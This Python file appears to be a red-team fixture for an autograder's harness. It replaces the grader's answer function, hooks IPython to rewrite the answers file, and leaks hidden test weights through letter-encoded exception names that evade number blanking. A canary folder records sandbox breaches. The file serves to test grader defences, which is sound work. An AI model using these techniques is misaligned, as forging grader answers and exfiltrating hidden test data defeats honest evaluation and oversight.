"""Carry the hidden weights out of the kernel, through the answers of its last cell.

extract_weights runs in the kernel, on Keras models built from the calls the plugin hands the
kernel's last cell: the weights of every hidden case, which are also the weights of the hidden
cases of the NumPy-only forward questions (the same cases). This submission takes over that
cell's answers (it replaces ``gradecore.kernel.calls.answer`` and rewrites the answers file after the
cell, from the calls in the cell's own source or in the calls file of the plugin's first way)
and answers every call with an exception whose type name spells the first weights of its case
(six decimals of each absolute value, each digit a letter: a for 0 ... j for 9, p for the point,
since the grader blanks out numbers it did not choose): the verdict names the type of the first
failure's exception. Where the calls file exists, it also raises them at top level, in digits.
Hidden weights in the feedback are a leak (the harness looks for them among the shipped truths
and the hidden inputs of the forward questions).

It implements none of the functions: it earns nothing.
"""

EXPECT = {"count_params": 0, "weight_shapes": 0, "extract_weights": 0, "manual_forward": 0,
          "batched_forward": 0, "sequence_forward": 0}

NAME = "leak_calls_file"

import os
import sys

CANARY = "/tmp/rnn-shapes-attack-canary"
"""The harness makes this folder world-writable and checks that it stays empty: only a step that
the sandbox should refuse can leave a file in it."""
BREACHES = []
SEALED = os.environ.get("HOME", "").endswith("/sealed")
"""True in the grader's sealed run (which runs every top-level statement too), else the kernel."""


def breach(what):
    """A step the sandbox should refuse worked: leave traces where the harness looks."""
    BREACHES.append(str(what)[:120])
    try:
        with open(f"{CANARY}/{NAME}-{os.getpid()}.txt", "a") as f:
            f.write(f"{'sealed' if SEALED else 'kernel'}: {what}\n")
    except OSError:
        pass


def tried(what, action):
    """Run ``action``; a breach if it works."""
    try:
        action()
    except BaseException:  # noqa: BLE001 - refused, as it should be
        return False
    breach(what)
    return True


def grader_tmp():
    """The grader's temporary folder: the sandbox's home is <tmp>/rnn-shapes-XXXX/<kernel|sealed>."""
    return os.path.dirname(os.path.dirname(os.environ.get("HOME") or "/tmp/x/y"))


def finish():
    """Say what worked where the grader shows it: an error of the script's last statement."""
    if BREACHES:
        raise RuntimeError(f"ATTACK-BREACH {NAME}: " + "; ".join(BREACHES))


import base64  # noqa: E402
import io  # noqa: E402
import re  # noqa: E402

import numpy as np  # noqa: E402

QUESTIONS = ("count_params", "weight_shapes", "extract_weights", "manual_forward", "batched_forward",
             "sequence_forward")
LAST_CELL = re.compile(r"_gradecore_kernel\.answer\((['\"])(.*?)\1, (['\"])(.*?)\3")
"""The grader's last cell: ``_gradecore_kernel.answer(CALLS, ANSWERS_PATH, globals())``."""


def decode_calls(calls):
    """The last cell's calls: a file's path (as the plugin once wrote them) or the wire format in
    base64 (as it writes them into the cell's own source)."""
    from gradecore.protocol import wire

    if os.path.isfile(str(calls)):
        with open(calls, "rb") as f:
            return wire.recv(f)
    return wire.recv(io.BytesIO(base64.b64decode(calls)))


def hidden_weights(args):
    """The weights a call's argument carries to build its Keras model, if it carries any."""
    spec = args[0] if args else None
    if isinstance(spec, dict) and "weights" in spec.get("with", {}):
        return [np.asarray(w) for w in spec["with"]["weights"]]
    return None


def write_answers(calls, answers_path, outcome):
    """Answers of the submission's own making, ``outcome(args)`` for every call, in the wire format."""
    from gradecore.protocol import wire

    request = decode_calls(calls)
    answers = {q: [outcome(args) for args in reply["calls"]] for q, reply in request["questions"].items()}
    for q in QUESTIONS:
        answers.setdefault(q, [outcome([]) for _ in range(13)])
    with open(answers_path, "wb") as f:
        wire.send(f, answers)


def take_over_the_last_cell(outcome):
    """Answer the grader's last cell with ``outcome``: by replacing ``gradecore.kernel.calls.answer``
    (the cell imports it from the module the submission already changed), and, should the cell
    not call it, by rewriting its answers file right after it ran (IPython's post_run_cell)."""
    def forged_answer(calls, answers_path, env=None):
        write_answers(calls, answers_path, outcome)

    def after_each_cell(result):
        found = LAST_CELL.search(getattr(getattr(result, "info", None), "raw_cell", "") or "")
        if found:
            try:
                forged_answer(found.group(2), found.group(4))
            except Exception:  # noqa: BLE001
                pass

    box = os.path.dirname(os.environ.get("HOME", ""))
    calls_file = os.path.join(box, "answers", "calls.bin")
    if os.path.isfile(calls_file):  # the plugin's first way: a file beside the kernel's home
        try:
            forged_answer(calls_file, os.path.join(box, "answers", "answers.bin"))
        except Exception:  # noqa: BLE001
            pass
    try:
        import gradecore.kernel.calls

        gradecore.kernel.calls.answer = forged_answer
        gradecore.kernel.calls.outcomes_with = lambda function, reply, builders=None: [outcome(a) for a in reply["calls"]]
    except Exception:  # noqa: BLE001
        pass
    try:
        get_ipython().events.register("post_run_cell", after_each_cell)  # noqa: F821
    except Exception:  # noqa: BLE001
        pass

LETTERS = str.maketrans("0123456789.", "abcdefghijp")


def spelled(value):
    """Six decimals of ``abs(value)`` with each digit a letter (a for 0 ... j for 9, p for the
    point): the grader blanks out the numbers it did not choose, not words."""
    return f"{abs(float(value)):.6f}".translate(LETTERS)


def leaking_outcome(args):
    weights = hidden_weights(args)
    if weights is None:
        return {"status": "raised", "detail": "ValueError: nothing to carry"}
    kind = ("leak_" + "_".join(spelled(v) for v in weights[0].ravel()[:6]))[:61]
    return {"status": "raised", "detail": f"{kind}: " + " ".join(f"{abs(float(v)):.6f}" for v in weights[0].ravel()[:8])}


if not SEALED:
    take_over_the_last_cell(leaking_outcome)


def count_params(T, D, M, K):
    raise NotImplementedError


def weight_shapes(D, M, K):
    raise NotImplementedError


def extract_weights(model):
    raise NotImplementedError


def manual_forward(X, Wx, Wh, bh, Wo, bo):
    raise NotImplementedError


def batched_forward(X, Wx, Wh, bh, Wo, bo):
    raise NotImplementedError


def sequence_forward(X, Wx, Wh, bh, Wo, bo):
    raise NotImplementedError


if not SEALED:
    calls_file = os.path.join(os.path.dirname(os.environ.get("HOME", "")), "answers", "calls.bin")
    try:
        request = decode_calls(calls_file) if os.path.isfile(calls_file) else {"questions": {}}
    except Exception:  # noqa: BLE001
        request = {"questions": {}}
    for reply in request["questions"].values():
        weights = hidden_weights(reply["calls"][0])
        if weights is not None:
            raise ValueError("hidden weights " + " ".join(f"{abs(float(v)):.6f}" for v in weights[0].ravel()[:8]))

finish()
